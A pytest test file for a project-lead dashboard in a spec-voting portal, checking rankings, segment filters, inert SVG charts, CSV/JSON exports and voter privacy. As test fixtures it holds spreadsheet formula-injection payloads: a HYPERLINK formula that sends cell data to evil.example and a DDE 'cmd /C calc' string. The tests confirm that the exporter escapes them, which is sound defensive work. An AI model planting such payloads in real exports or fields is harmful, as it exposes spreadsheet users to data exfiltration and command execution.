"""The PTL dashboard: ranking page, segments, charts that load nothing remote, exports, privacy, answers."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from portal.models import GerritChange
from portal.votes import profile, service
from portal.votes.export import safe_cell
from portal.votes.service import Priority, VoteInput
from tests.support.factories import login
from tests.support.html import csrf_token, text_of


def logout(client):
    token = csrf_token(client.get("/account").get_data(as_text=True))
    assert client.post("/logout", data={"csrf_token": token}).status_code == 302


HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.fixture
def board(db, make_project, make_spec, make_user):
    nova = make_project("nova")
    drain = make_spec(name="compute-drain", project=nova, title=HOSTILE, release="2026.2")
    quota = make_spec(name="quota-report", project=nova, title="Quota report", release="2026.2")
    db.add(GerritChange(spec_id=drain.id, repo="openstack/nova-specs", change_number=777, status="NEW",
                        url="https://review.opendev.org/c/777",
                        labels=[{"label": "Code-Review", "value": -1, "by": "core"}]))
    ptl = make_user("lead")
    ptl.ptl_of = [nova]
    voters = []
    for i, (org, shown, band) in enumerate([("Open Cloud", True, "1001-5000"), ("Secret Cloud", False, "1-10")]):
        user = make_user(f"op{i}")
        profile.save_profile(db, user, profile.parse_profile({
            "organisation": org, "show_organisation": shown, "release_in_production": "2026.1",
            "hypervisors": band}))
        voters.append(user)
    service.cast(db, voters[0], drain, VoteInput(Priority.MUST, True, "+cmd|' /C calc'!A0"))
    service.cast(db, voters[1], drain, VoteInput(Priority.IMPORTANT, False, "@SUM(1+1)"))
    service.cast(db, voters[1], quota, VoteInput(Priority.NICE))
    db.flush()
    return nova, drain, quota, ptl


def test_dashboard_ranks_and_shows_review_state_for_everyone(client, board):
    page = client.get("/projects/nova/dashboard?release=2026.2").get_data(as_text=True)
    text = text_of(page)
    assert text.index("compute-drain") < text.index("quota-report")
    assert "NEW 777" in text and "1 negative" in text
    assert "where votes come from" in text  # not a PTL: no voter list
    assert "Export CSV" in text and "charts/top.svg" in page


def test_bad_segment_filters_are_named_and_the_rest_is_used(client, board):
    page = text_of(client.get("/projects/nova/dashboard?min_hypervisors=many&release=2026.2").get_data(as_text=True))
    assert "Some filters were not used: min_hypervisors must be a whole number from 0 to 1000000, not 'many'." in page
    assert "compute-drain" in page


def test_segment_of_big_clouds(client, board):
    page = text_of(client.get("/projects/nova/dashboard?min_hypervisors=501").get_data(as_text=True))
    assert "compute-drain" in page and "quota-report" not in page
    assert "operators with at least 501 hypervisors" in page


@pytest.mark.parametrize("chart", ["top", "priorities", "segment"])
def test_charts_are_svg_that_load_nothing(client, board, chart):
    response = client.get(f"/projects/nova/dashboard/charts/{chart}.svg?release=2026.2")
    assert response.status_code == 200 and response.mimetype == "image/svg+xml"
    svg = response.get_data(as_text=True)
    assert "<script" not in svg
    assert not re.search(r"""(href|src)\s*=\s*["'](https?:)?//|@import|url\(\s*["']?(https?:)?//""", svg)
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
    if chart != "segment":
        assert "HYPERLINK" in svg and "<svg" in svg  # the hostile title is text, escaped by the SVG writer


def test_csv_export_is_safe_against_formula_injection_and_has_no_emails(client, board):
    response = client.get("/projects/nova/dashboard/demand.csv?release=2026.2")
    assert response.headers["Content-Disposition"] == 'attachment; filename="nova-2026.2-demand.csv"'
    body = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:5] == ["rank", "name", "title", "score", "votes"]
    assert rows[1][2] == "'" + HOSTILE  # shown as text by every spreadsheet
    assert rows[1][3] == "6" and rows[1][10] == "NEW" and rows[1][12] == "1"
    assert "@example.org" not in body


def test_json_export_carries_the_ranking_and_no_emails(client, board):
    body = client.get("/projects/nova/dashboard/demand.json").get_data(as_text=True)
    document = json.loads(body)
    assert [i["name"] for i in document["items"]] == ["compute-drain", "quota-report"]
    assert document["score"].startswith("Score: 3 per")
    assert "@example.org" not in body


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@cmd", "'@cmd"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), (-3, "-3"), (2.5, "2.5"), (True, "true"), (None, ""),
])
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_voters_list_is_for_the_projects_ptls_only(client, board, make_user):
    nova, drain, _, ptl = board
    url = "/projects/nova/dashboard/specs/compute-drain/voters"
    anonymous = text_of(client.get(url).get_data(as_text=True))
    assert "Log in (or send an API token) to see who voted." in anonymous and "op0" not in anonymous
    assert "2026.1 ×2" in anonymous  # aggregated context for everyone
    assert client.get(url + "?format=csv").status_code in (302, 401)
    make_user("other")
    login(client, "other")
    other = text_of(client.get(url).get_data(as_text=True))
    assert "Only the PTLs of nova see each voter's reason" in other and "op0" not in other
    assert client.get(url + "?format=csv").status_code == 403
    logout(client)
    login(client, "lead")
    page = text_of(client.get(url).get_data(as_text=True))
    assert "op0" in page and "Open Cloud" in page and "Secret Cloud" not in page
    exported = client.get(url + "?format=csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][1:5] == ["op0", "must", "true", "'+cmd|' /C calc'!A0"]
    assert rows[2][4] == "'@SUM(1+1)" and rows[2][6] == ""  # the hidden organisation stays hidden
    assert "Secret Cloud" not in exported and "@example.org" not in exported


def test_ptl_answer_is_shown_to_operators_on_the_spec(client, board, make_user):
    nova, drain, _, ptl = board
    login(client, "lead")
    page = client.get("/projects/nova/dashboard").get_data(as_text=True)
    token = csrf_token(page)
    url = "/projects/nova/dashboard/specs/compute-drain/acknowledge"
    bad = client.post(url, data={"csrf_token": token, "kind": "planned", "note": "Needs a release"})
    assert bad.status_code == 400
    bad_page = bad.get_data(as_text=True)
    assert "Say which release it is planned for, e.g. 2026.2." in text_of(bad_page)
    assert "Needs a release" in bad_page  # the note typed is not lost
    done = client.post(url, data={"csrf_token": token, "kind": "planned", "release": "2026.2",
                                  "note": "Targeted at the PTG"})
    assert done.status_code == 302
    logout(client)
    make_user("reader")
    login(client, "reader")
    spec_page = text_of(client.get("/projects/nova/specs/compute-drain").get_data(as_text=True))
    assert "Planned for 2026.2 by the PTL lead" in spec_page and "“Targeted at the PTG”" in spec_page
    assert "As PTL of nova" not in spec_page  # the answer form is for the PTL only
    timeline = spec_page[spec_page.index("Discussion and history"):]
    assert "Planned for 2026.2 by the PTL lead" in timeline and "Targeted at the PTG" in timeline


def test_dashboard_queries_do_not_grow_with_votes(client, db, board, make_user, count_queries):
    nova, drain, quota, _ = board

    def measure():
        with count_queries() as q:
            assert client.get("/projects/nova/dashboard").status_code == 200
        return q.count

    small = measure()
    for i in range(30):
        service.cast(db, make_user(f"extra{i}"), quota if i % 2 else drain, VoteInput(Priority.NICE))
    db.flush()
    assert measure() == small
